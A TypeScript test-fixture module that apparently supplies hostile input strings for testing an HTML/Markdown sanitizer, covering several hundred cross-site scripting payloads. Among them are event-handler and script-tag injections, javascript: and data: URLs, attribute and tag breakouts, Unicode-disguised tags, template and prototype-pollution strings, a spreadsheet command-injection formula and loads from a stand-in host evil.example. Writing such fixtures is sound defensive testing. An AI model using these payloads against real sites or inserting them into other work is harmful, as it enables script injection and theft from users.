/**
 * Texts that try to run `window.pwned = …` or to fetch from evil.example wherever they are shown: as HTML, SVG and MathML,
 * as Markdown, as addresses, and as fragments that break out of an attribute, a tag, a script or a style. More than three
 * hundred.
 */
export const hostileTexts = (): string[] => [...new Set([...crossed(), ...single()].flat())];

/**
 * One of each form, about fifty: of two lists that are crossed each member of the shorter one, with as many of the longer one,
 * and every third of the texts that are different anyway.
 */
export const hostileForms = (): string[] => [
  ...new Set([...crossed().flatMap((texts) => every(9, texts)), ...single().flatMap((texts) => every(3, texts))]),
];

const every = (step: number, texts: readonly string[]): string[] => texts.filter((_, nth) => nth % step === 0);
/** Two lists each, the shorter one within the longer one. Nine is prime to the lengths of the shorter ones. */
const crossed = (): string[][] => [elementsByEvent(), addresses(), breakouts()];
const single = (): string[][] => [elements(), markdown(), disguises()];

const RUN = 'window.pwned=1';

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerenter',
];

const elementsByEvent = (): string[] =>
  EVENTS.flatMap((event) => [
    `<img src=x ${event}="${RUN}">`,
    `<svg ${event}='${RUN}'><rect width=9 height=9 /></svg>`,
    `<details open ${event}=${RUN}><summary>x</summary></details>`,
    `<input autofocus ${event}="${RUN}">`,
    `<video ${event}="${RUN}"><source ${event}="${RUN}" src=x></video>`,
    `<body ${event}=${RUN}>`,
    `<div tabindex=0 style="animation-name:x" ${event}="${RUN}">x</div>`,
    `<math><mtext><img src=x ${event}="${RUN}"></mtext></math>`,
  ]);

const elements = (): string[] => [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="https://evil.example/x.js" /></svg>`,
  `<svg><animate attributeName=href values="javascript:${RUN}" /><a><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x" /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<form><button formaction="javascript:${RUN}">go</button></form>`,
  `<isindex action="javascript:${RUN}" type=submit>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=preload as=script href="https://evil.example/x.js">`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<style>body{background:url(https://evil.example/x.png)}</style>`,
  `<img src="https://evil.example/pixel.png">`,
  `<img srcset="https://evil.example/pixel.png 1x">`,
  `<picture><source srcset="https://evil.example/p.png"><img></picture>`,
  `<audio src="https://evil.example/x.mp3" autoplay></audio>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<table background="https://evil.example/x.png"><tr><td>x</table>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<x contenteditable onblur=${RUN}>x</x>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
];

function schemes(): string[] {
  const tab = String.fromCharCode(9);
  return [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java${tab}script:${RUN}`,
    ` javascript:${RUN}`,
    `${encodeURIComponent('javascript:')}${RUN}`,
    `javascript&colon;${RUN}`,
    `&#106;avascript:${RUN}`,
    `&#x6A;avascript:${RUN}`,
    `javascript://evil.example/%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString('base64')}`,
    `data:image/svg+xml,<svg onload=${RUN}>`,
    `vbscript:${RUN}`,
    `file:///etc/passwd`,
    `blob:https://evil.example/x`,
    `filesystem:https://evil.example/x`,
    `view-source:javascript:${RUN}`,
    `//evil.example/x`,
    `\\\\evil.example\\x`,
  ];
}

const addresses = (): string[] =>
  schemes().flatMap((address) => [
    address,
    `<a href="${address}">press</a>`,
    `[press](${address})`,
    `[press](<${address}>)`,
    `![picture](${address})`,
    `<${address}>`,
    `[press][x]\n\n[x]: ${address}`,
  ]);

const markdown = (): string[] => [
  `[x](https://example.org "\\" onmouseover=\\"${RUN}")`,
  `![x](https://evil.example/pixel.png "x\\" onerror=\\"${RUN}")`,
  `![x\\" onerror=\\"${RUN}](x)`,
  '```html\n<script>window.pwned=1</script>\n```',
  '`<img src=x onerror=window.pwned=1>`',
  `> <img src=x onerror=${RUN}>`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | x |`,
  `# <svg/onload=${RUN}>`,
  `**<b onclick=${RUN}>bold</b>**`,
  `<div>\n\n[x](javascript:${RUN})\n\n</div>`,
  `<!-- --><img src=x onerror=${RUN}> -->`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `@[Mallory](mention:javascript:${RUN})`,
  `@[<img src=x onerror=${RUN}>](mention:00000000-0000-7000-8000-000000000000)`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `https://example.org/"onmouseover="${RUN}`,
  `www.example.org/<script>${RUN}</script>`,
];

const breakouts = (): string[] =>
  ['"', "'", '`', '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '</svg>', '--></x>', '*/', ']]>'].flatMap(
    (end) => [
      `${end}<img src=x onerror=${RUN}>`,
      `${end} onfocus=${RUN} autofocus x=${end}`,
      `${end};${RUN};//`,
      `x${end}<script>${RUN}</script>`,
    ],
  );

const disguises = (): string[] => [
  '\u202Egpj.<img src=x onerror=window.pwned=1>',
  '\uFEFF<script>window.pwned=1</script>',
  '\u00AD<script\u00AD>window.pwned=1</script>',
  '＜script＞window.pwned=1＜/script＞',
  '<ſcript>window.pwned=1</ſcript>',
  '<img\u00A0src=x\u00A0onerror=window.pwned=1>',
  '<img/src=x/onerror=window.pwned=1>',
  '<img src=x onerror\n=\nwindow.pwned=1>',
  '&lt;img src=x onerror=window.pwned=1&gt;',
  '&amp;lt;script&amp;gt;window.pwned=1&amp;lt;/script&amp;gt;',
  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
  "{{constructor.constructor('window.pwned=1')()}}",
  '${window.pwned=1}',
  '<%= window.pwned=1 %>',
  '#{window.pwned=1}',
  '__proto__',
  'constructor',
  'toString',
  "=cmd|' /C calc'!A0",
  '+window.pwned=1',
  '@SUM(1+1)',
];
